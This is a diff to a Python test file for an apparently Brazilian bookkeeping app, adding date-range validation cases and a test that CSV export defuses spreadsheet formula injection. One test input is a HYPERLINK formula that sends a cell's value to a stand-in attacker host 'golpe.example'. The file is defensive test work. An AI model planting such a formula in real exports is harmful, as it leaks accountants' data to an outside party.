@@ -70,6 +70,9 @@ def test_a_lancamento_created_paid_gets_its_baixa(cliente, cad, sql_dono):
     ({"descricao": "  "}, "descricao", "pelo menos 1"),
     ({"data_vencimento": "10/03/2026"}, "data_vencimento", "AAAA-MM-DD"),
     ({"competencia": "2026-13"}, "competencia", "AAAA-MM"),
+    # Dates at the ends of Python's calendar: the parcelas' months would overflow (a 500).
+    ({"competencia": "0001-01"}, "competencia", "anos de 1900 a 2199"),
+    ({"data_vencimento": "9999-12-31", "parcelas": {"quantidade": 360}}, "data_vencimento", "anos de 1900 a 2199"),
     ({"categoria_id": "x"}, "categoria_id", "inteiro"),
     ({"status": "PARCIAL"}, "status", "PENDENTE"),
     ({"data_pagamento": "2026-03-01"}, "corpo", "status PAGO"),
@@ -342,6 +345,19 @@ def test_csv_export_of_the_filtered_ledger(cliente, cad):
     assert (primeira["Valor"], primeira["Vencimento"], primeira["Parcela"], primeira["Cliente/Fornecedor"],
             primeira["Status"]) == ("617,25", "10/03/2026", "1/2", "Ana Souza", "VENCIDO")
     assert cliente.get("/api/lancamentos/exportar?de=31-12-2029").status_code == 400
+
+
+@pytest.mark.parametrize("descricao", ['=HYPERLINK("http://golpe.example/?x="&A1;"Clique")', "+55 11 99999-0000",
+                                       "-2+3", "@SUM(A1:A9)", "\t=1+1"])
+def test_a_description_that_begins_like_a_formula_is_exported_as_text(cliente, cad, descricao):
+    """A bank memo copied into a description by a rule must not become a live formula in the
+    accountant's spreadsheet: the cell starts with an apostrophe, which makes it text."""
+    criar(cliente, cad, descricao=descricao, observacoes=descricao, data_vencimento="2031-05-05")
+    texto = cliente.get("/api/lancamentos/exportar?de=2031-05-05&ate=2031-05-05").get_data(as_text=True)
+    cabecalho, linha = list(csv.reader(io.StringIO(texto.lstrip("\ufeff")), delimiter=";"))
+    celulas = dict(zip(cabecalho, linha))
+    assert celulas["Descrição"] == "'" + descricao.strip() and celulas["Observações"] == "'" + descricao.strip()
+    assert celulas["Valor"] == "450,00" and celulas["Tipo"] == "RECEITA"
 
 
 def test_writes_are_audited_and_published(cliente, cad, sql_dono, app):
